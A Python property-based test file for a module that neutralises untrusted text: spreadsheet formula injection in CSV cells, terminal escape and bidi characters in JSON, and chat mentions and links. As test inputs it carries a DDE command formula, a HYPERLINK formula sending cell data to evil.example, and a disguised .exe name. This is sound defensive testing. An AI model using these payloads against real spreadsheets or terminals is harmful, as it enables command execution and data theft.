"""Text from strangers: no spreadsheet runs it, whatever ends a cell there, and no terminal obeys it."""

import csv
import json
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from eed_delivery.untrusted import HARMLESS, bare, inert, json_text, without_markup

SEPARATORS = ",;\t|"
# What a spreadsheet may pass over before it looks whether a cell is a formula.
BLANKS = " \u00a0\u200b\ufeff\u3000"
FORMULA = re.compile(rf"[{BLANKS}]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
TEXT = st.text(st.sampled_from("=+-@'\"\t\r\n ,;|a1\u00a0\u200b\ufeff\uff1d") | st.characters(), max_size=40)


@given(TEXT)
@example("=cmd|'/C calc'!A0")
@example('550 no;=HYPERLINK("http://evil.example/?"&B2;"click")')
@example("550 ok\t=1+1")
@example("550 x|=1+1")
@example("\u200b=1+1")
@example("a;'=1")
@example("''=")
def test_no_piece_of_a_cell_is_a_formula_and_the_text_comes_back(text: str) -> None:
    cell = inert(text)
    assert bare(cell) == text
    assert not cell.startswith(("\t", "\r", "\n"))
    for separator in SEPARATORS:
        assert not any(FORMULA.match(piece) for piece in cell.split(separator))


@pytest.mark.parametrize("separator", SEPARATORS)
@given(text=TEXT)
def test_a_line_of_csv_runs_nothing_by_any_separator(separator: str, text: str) -> None:
    line = f'1,"{inert(text).replace(chr(34), chr(34) * 2)}",2'.replace("\r", " ").replace("\n", " ")
    for cell in next(csv.reader([line], delimiter=separator)):
        assert not re.match(rf"[{BLANKS}\"]*[=+@\uff1d\uff0b\uff20]", cell.removeprefix('1,"'))


@given(st.dictionaries(st.text(max_size=5), st.text(st.characters(), max_size=20), max_size=3))
@example({"n": "x\x9b31m\x1b[2J\u202egnp.exe\u2066\U000e0041\ud800"})
def test_json_moves_no_cursor_and_reverses_no_line(data: dict[str, str]) -> None:
    for ascii_only in (False, True):
        text = json_text(data, indent=2, ascii_only=ascii_only, default=str)
        assert all(c.isprintable() or c in HARMLESS for c in text)
        assert json.loads(text) == data
        text.encode()


def test_names_stay_readable_in_json() -> None:
    assert json_text({"n": "Jürgen 山田 می\u200cخواهم"}, default=str) == '{"n": "Jürgen 山田 می\u200cخواهم"}'


CHAT_MARKS = [
    "<!channel>",
    "<!here|x>",
    "<@U024BE7LH>",
    "<#C1>",
    "<https://evil.example|bank>",
    "@everyone",
    "@HERE",
    "@channel",
    "@all",
]


@pytest.mark.parametrize("mark", [*CHAT_MARKS, "[bank](https://evil.example)", "<at>Anna</at>"])
@given(before=st.text(max_size=5), after=st.text(max_size=5))
def test_a_reply_mentions_nobody_in_a_chat(mark: str, before: str, after: str) -> None:
    text = without_markup(f"{before}{mark} {after}")
    assert mark not in text
    assert text.replace("\u200b", "") == f"{before}{mark} {after}".replace("\u200b", "")


def test_addresses_stay_as_they_are_in_a_chat() -> None:
    assert (
        without_markup("550 <***@example.com> a < b, a@heron.example")
        == "550 <\u200b***@example.com> a < b, a@heron.example"
    )
